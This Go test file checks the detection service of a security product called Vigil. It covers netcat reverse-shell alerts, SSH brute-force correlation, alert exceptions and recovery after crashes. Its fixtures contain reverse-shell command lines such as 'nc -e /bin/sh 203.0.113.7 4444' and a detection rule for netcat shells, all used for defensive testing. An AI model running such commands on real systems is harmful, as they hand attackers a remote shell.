package detect_test

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"slices"
	"sync"
	"sync/atomic"
	"testing"
	"testing/fstest"
	"time"

	"github.com/nats-io/nats.go/jetstream"

	"github.com/vigilsec/vigil/internal/bus"
	"github.com/vigilsec/vigil/internal/center/detect"
	"github.com/vigilsec/vigil/internal/center/eventbatch/batchtest"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/store"
	"github.com/vigilsec/vigil/internal/store/sqlite"
)

const (
	ncRuleID    = "6d1f7e36-2b8a-4c55-9d57-0c3f3c1f2a01"
	failRuleID  = "0c3c9b0e-5f61-4a0e-9f0d-6a9d2f1b7e02"
	bruteRuleID = "a7e2b1c4-8d3f-4e6a-b9c0-1d2e3f4a5b03"
)

// testRules are a detection rule, and a correlation over an
// informational rule.
var testRules = fstest.MapFS{
	"linux/nc.yml": {Data: []byte(`title: Netcat runs a program for its peer
id: ` + ncRuleID + `
status: test
description: nc -e gives a remote peer a shell
author: Vigil
level: high
tags: [attack.execution, attack.t1059.004]
falsepositives: [none known]
logsource: {product: linux, category: process_creation}
detection:
  selection:
    Image|endswith: [/nc, /ncat, /netcat]
    CommandLine|contains: ' -e '
  condition: selection
`)},
	"linux/ssh.yml": {Data: []byte(`title: SSH login failed
id: ` + failRuleID + `
name: ssh_login_failed
status: test
description: one failed login
author: Vigil
level: informational
tags: [attack.credential-access, attack.t1110]
falsepositives: [typos]
logsource: {product: linux, service: authlog}
detection:
  selection:
    event.action: login-failed
  condition: selection
---
title: SSH password guessing from one address
id: ` + bruteRuleID + `
status: test
description: three failures from one address within five minutes
author: Vigil
level: high
tags: [attack.credential-access, attack.t1110.001]
falsepositives: [a user who forgot the password]
correlation:
  type: event_count
  rules: [ssh_login_failed]
  group-by: [source.ip]
  timespan: 5m
  condition: {gte: 3}
`)},
}

// env is a JetStream server with the events stream and a SQLite store.
type env struct {
	t     *testing.T
	url   string
	js    jetstream.JetStream
	store store.Store
	n     int
}

func newEnv(t *testing.T) *env {
	t.Helper()
	e := &env{t: t}
	e.url, e.js = batchtest.Server(t)
	st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "vigil.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = st.Close() })
	e.store = st
	return e
}

// notes records what the service notifies.
type notes struct {
	mu     sync.Mutex
	alerts []store.Alert
}

func (n *notes) NotifyAlert(a store.Alert) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.alerts = append(n.alerts, a)
}

func (n *notes) count() int {
	n.mu.Lock()
	defer n.mu.Unlock()
	return len(n.alerts)
}

// run starts a service and returns it with a function that stops it.
func (e *env) run(cfg detect.Config) (*detect.Service, func()) {
	e.t.Helper()
	rules, err := detect.NewRules(context.Background(), testRules, e.store.Rules(), nil)
	if err != nil {
		e.t.Fatal(err)
	}
	if p := rules.Current().Problems; len(p) > 0 {
		e.t.Fatalf("rules not loaded: %v", p)
	}
	if cfg.JS == nil {
		cfg.JS = e.js
	}
	if cfg.Store == nil {
		cfg.Store = e.store
	}
	cfg.Rules = rules
	if cfg.Checkpoint == 0 {
		cfg.Checkpoint = 50 * time.Millisecond
	}
	s := detect.New(cfg)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx) }()
	var once sync.Once
	stop := func() {
		once.Do(func() {
			cancel()
			if err := <-done; err != nil {
				e.t.Errorf("Run: %v", err)
			}
		})
	}
	e.t.Cleanup(stop)
	return s, stop
}

// publish sends events of agent as one batch.
func (e *env) publish(js jetstream.JetStream, agent string, evs ...event.Event) {
	e.t.Helper()
	if js == nil {
		js = e.js
	}
	_, err := js.Publish(context.Background(), bus.EventsSubject(agent), batchtest.Message(agent, batchtest.Lines(e.t, evs), len(evs), true, 0))
	if err != nil {
		e.t.Fatal(err)
	}
}

func (e *env) event(agent, category, action string, fields map[string]any) event.Event {
	e.n++
	ev := event.New(fmt.Sprintf("ev-%d", e.n), time.Now(), category, action)
	ev.Set(event.FieldAgentID, agent)
	for k, v := range fields {
		ev.Set(k, v)
	}
	return ev
}

func (e *env) nc(agent, cmd string) event.Event {
	return e.event(agent, "process", "exec", map[string]any{
		"process.executable": "/usr/bin/nc", "process.command_line": cmd, "process.entity_id": "p-" + cmd,
		"process.parent.executable": "/usr/bin/bash", "user.name": "www-data", "user.id": "33",
	})
}

func (e *env) failure(agent, ip string) event.Event {
	return e.event(agent, "authentication", "login-failed", map[string]any{
		"event.dataset": "authlog", "event.outcome": "failure", "user.name": "root", "source.ip": ip,
	})
}

func (e *env) alerts(f store.AlertFilter) []store.Alert {
	e.t.Helper()
	list, _, err := e.store.Alerts().List(context.Background(), f)
	if err != nil {
		e.t.Fatal(err)
	}
	return list
}

func eventually(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestAlertsAndIncidents(t *testing.T) {
	e := newEnv(t)
	var n notes
	s, _ := e.run(detect.Config{Notifier: &n})
	benign := e.event("a1", "process", "exec", map[string]any{"process.executable": "/usr/bin/ls", "process.command_line": "ls -e /tmp"})
	e.publish(nil, "a1", benign, e.nc("a1", "nc -e /bin/sh 203.0.113.7 4444"))
	eventually(t, "the alert in an incident", func() bool {
		list := e.alerts(store.AlertFilter{})
		return len(list) == 1 && list[0].IncidentID != ""
	})
	a := e.alerts(store.AlertFilter{})[0]
	if a.RuleID != ncRuleID || a.Severity != store.SeverityHigh || a.AgentID != "a1" || a.State != store.AlertNew ||
		!slices.Equal(a.Techniques, []string{"T1059.004"}) || a.Title != "Netcat runs a program for its peer" ||
		len(a.EventIDs) != 1 || a.EventIDs[0] != "ev-2" || a.IncidentID == "" {
		t.Errorf("alert %+v", a)
	}
	if ev, _ := a.Evidence["event"].(map[string]any); ev == nil {
		t.Errorf("evidence without the event: %v", a.Evidence)
	}

	// The same program again: counted; another host sharing the peer's
	// address: another alert in the same incident.
	e.publish(nil, "a1", e.nc("a1", "nc -e /bin/sh 203.0.113.7 4444"))
	other := e.nc("b2", "nc -e /bin/bash 203.0.113.7 443")
	other.Set("destination.ip", "203.0.113.7")
	e.publish(nil, "b2", other)
	eventually(t, "the repeat and the second host", func() bool {
		list := e.alerts(store.AlertFilter{})
		return len(list) == 2 && (list[0].Count+list[1].Count) == 3
	})
	eventually(t, "notifications", func() bool { return n.count() == 2 })
	st := s.Stats()
	if st.EventsTotal != 4 || st.MatchesTotal != 3 || st.NewAlertsTotal != 2 || st.AlertsTotal != 3 {
		t.Errorf("stats %+v", st)
	}
	// Two incidents: nothing ties a1's alert (no remote address in its
	// event) to b2's.
	incs, _, err := e.store.Incidents().List(context.Background(), store.IncidentFilter{})
	if err != nil {
		t.Fatal(err)
	}
	if len(incs) != 2 {
		t.Errorf("%d incidents, want 2: %+v", len(incs), incs)
	}
}

func TestExceptions(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	exc, err := e.store.Exceptions().Create(ctx, store.Exception{
		RuleID: ncRuleID, Match: map[string][]string{"process.command_line": {"*192.0.2.*"}},
		Reason: "the monitoring probe", Author: "test",
	})
	if err != nil {
		t.Fatal(err)
	}
	s, _ := e.run(detect.Config{})
	e.publish(nil, "a1", e.nc("a1", "nc -e /usr/lib/probe 192.0.2.10 9000"), e.nc("a1", "nc -e /bin/sh 198.51.100.3 4444"))
	eventually(t, "one alert and one suppressed", func() bool {
		return len(e.alerts(store.AlertFilter{})) == 1 && s.Stats().SuppressedTotal == 1
	})
	got, err := e.store.Exceptions().Get(ctx, exc.ID)
	if err != nil || got.Hits != 1 {
		t.Errorf("exception hits %d (%v), want 1", got.Hits, err)
	}

	// An exception that expired suppresses nothing.
	_, err = e.store.Exceptions().Update(ctx, store.Exception{
		ID: exc.ID, RuleID: ncRuleID, Match: exc.Match, Reason: exc.Reason, ExpiresAt: time.Now().Add(-time.Minute),
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.ReloadExceptions(ctx); err != nil {
		t.Fatal(err)
	}
	e.publish(nil, "a1", e.nc("a1", "nc -e /usr/lib/probe 192.0.2.10 9001"))
	// The same program as the open alert's: counted on it.
	eventually(t, "the alert once the exception expired", func() bool {
		list := e.alerts(store.AlertFilter{})
		return len(list) == 1 && list[0].Count == 2
	})
}

// failingState is a store whose detection state cannot be written once
// fail is set: a center that dies before its checkpoint.
type failingState struct {
	store.Store
	fail *atomic.Bool
}

func (f failingState) State() store.StateStore { return failingStateStore{f.Store.State(), f.fail} }

type failingStateStore struct {
	store.StateStore
	fail *atomic.Bool
}

func (f failingStateStore) Put(ctx context.Context, key string, value []byte) error {
	if f.fail.Load() {
		return errors.New("the center died")
	}
	return f.StateStore.Put(ctx, key, value)
}

// TestCorrelationSurvivesRestart counts failures across a restart, a
// lost connection (the last checkpoint holds a message whose
// acknowledgement was lost: it comes again and is not counted twice) and
// a crash before the checkpoint (the message comes again to the windows
// that never saw it and is counted once).
func TestCorrelationSurvivesRestart(t *testing.T) {
	e := newEnv(t)
	const a, b = "198.51.100.20", "203.0.113.99"
	brute := func() []store.Alert { return e.alerts(store.AlertFilter{RuleID: bruteRuleID}) }

	s1, stop := e.run(detect.Config{})
	e.publish(nil, "a1", e.failure("a1", a))
	e.publish(nil, "a1", e.failure("a1", a))
	eventually(t, "two failures seen", func() bool { return s1.Stats().EventsTotal == 2 })
	stop() // writes a last checkpoint

	// The connection dies after a message was read: the last checkpoint
	// holds it, its acknowledgement is lost.
	js, nc := batchtest.Connect(t, e.url)
	s2, stop := e.run(detect.Config{JS: js, Checkpoint: time.Hour, AckWait: time.Second})
	e.publish(nil, "a1", e.failure("a1", b))
	eventually(t, "the failure read before the connection died", func() bool { return s2.Stats().EventsTotal == 1 })
	nc.Close()
	stop()

	// The center dies before it can write its checkpoint.
	var fail atomic.Bool
	fail.Store(true)
	crashing := failingState{e.store, &fail}
	js, nc = batchtest.Connect(t, e.url)
	s3, stop := e.run(detect.Config{JS: js, Store: crashing, Checkpoint: time.Hour, AckWait: time.Second})
	eventually(t, "the first message again", func() bool { return s3.Stats().RedeliveredTotal == 1 })
	e.publish(nil, "a1", e.failure("a1", b))
	eventually(t, "the failure read before the crash", func() bool { return s3.Stats().EventsTotal == 1 })
	nc.Close()
	stop()

	s4, _ := e.run(detect.Config{AckWait: time.Second})
	// The crashed center had acknowledged the first message; the second
	// comes again.
	eventually(t, "the crash's message again", func() bool { return s4.Stats().EventsTotal == 1 })
	if n := len(brute()); n != 0 {
		t.Fatalf("%d alerts before any address failed three times", n)
	}
	e.publish(nil, "a1", e.failure("a1", a))
	eventually(t, "the first address's alert", func() bool { return len(brute()) == 1 })
	al := brute()[0]
	c, _ := al.Evidence["correlation"].(map[string]any)
	if c == nil || c["count"] != float64(3) || len(al.EventIDs) != 3 || al.Severity != store.SeverityHigh {
		t.Errorf("alert %+v", al)
	}
	// The informational base rule raises nothing by itself.
	if n := len(e.alerts(store.AlertFilter{RuleID: failRuleID})); n != 0 {
		t.Errorf("%d alerts of the base rule", n)
	}
	// The second address failed twice: once more makes three.
	e.publish(nil, "a1", e.failure("a1", b))
	eventually(t, "the second address's alert", func() bool { return len(brute()) == 2 })
	time.Sleep(200 * time.Millisecond)
	if n := len(brute()); n != 2 {
		t.Errorf("%d alerts, want 2", n)
	}
}
